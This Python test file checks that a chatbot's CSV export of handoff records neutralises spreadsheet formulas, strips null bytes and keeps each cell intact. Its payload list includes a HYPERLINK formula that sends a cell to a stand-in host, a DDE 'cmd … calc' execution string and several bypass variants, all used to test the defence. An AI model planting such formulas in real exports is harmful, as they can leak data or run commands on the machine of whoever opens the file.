"""Many handoffs in one table, which a spreadsheet opens without running anything."""

from __future__ import annotations

import csv
import io

import pytest

from bot.desk_export.as_csv import BYTE_ORDER_MARK, safe, to_csv
from bot.desk_export.record import Record, Setting, record_of
from bot.store.handoffs import Note
from tests.unit.desk_export.conftest import SENT, answer, handoff, summary

FORMULAS = (
    '=HYPERLINK("http://x.test/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "\u00a0=1+1",
)


def table(*records: Record) -> list[dict[str, str]]:
    text = to_csv(records)
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def one(setting: Setting, *answers: dict[str, object]) -> Record:
    return record_of(handoff(summary=summary(answers=list(answers))), setting, notes=False)


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(formula: str) -> None:
    assert safe(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["\0null", "a\0b", "\ud800a", "\0=1+1"])
def test_no_stored_text_breaks_the_table(text: str, setting: Setting) -> None:
    noted = handoff(
        summary=summary(answers=[answer("help\0", "What?", text)]),
        notes=[Note("Sam\0 Desk", SENT, text)],
    )
    made = to_csv([record_of(noted, setting, notes=True)])
    assert "\0" not in made.encode().decode()
    assert "Sam Desk: " in made


def test_a_formula_behind_a_null_is_still_none() -> None:
    assert safe("\0=1+1") == "'=1+1"


@pytest.mark.parametrize("plain", ["Alcohol", "José", "(617) 555-0142", "", "a=b", "2027-01-15"])
def test_a_plain_cell_stays_as_it_is(plain: str) -> None:
    assert safe(plain) == plain


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_table_is_a_formula(formula: str, setting: Setting) -> None:
    record = one(setting, answer("help", "What?", formula), answer(formula, "What?", "Yes"))
    cells = [cell for row in csv.reader(io.StringIO(to_csv([record])[1:])) for cell in row]
    assert not any(cell.lstrip()[:1] in set("=+-@＝＋－＠") for cell in cells if cell.strip())


def test_each_handoff_is_one_row(record: Record) -> None:
    assert len(table(record, record, record)) == 3


def test_line_breaks_quotes_and_commas_stay_inside_their_cell(setting: Setting) -> None:
    said = 'one, "two"\nthree'
    assert table(one(setting, answer("help", "What?", said)))[0]["answer: help"] == said


def test_a_question_that_only_one_visitor_answered_is_empty_for_the_other(
    setting: Setting,
) -> None:
    first = one(setting, answer("help", "What?", "Alcohol"))
    second = one(setting, answer("safe_place", "Where?", "No"))
    rows = table(first, second)
    assert [row["answer: help"] for row in rows] == ["Alcohol", ""]


def test_every_row_carries_the_notice(record: Record) -> None:
    assert {row["notice"] for row in table(record, record)} == {record.notice.statement}


def test_there_is_no_column_for_notes_that_stay(record: Record) -> None:
    assert "notes" not in table(record)[0]


def test_an_empty_choice_is_a_table_with_its_header_only() -> None:
    assert table() == []
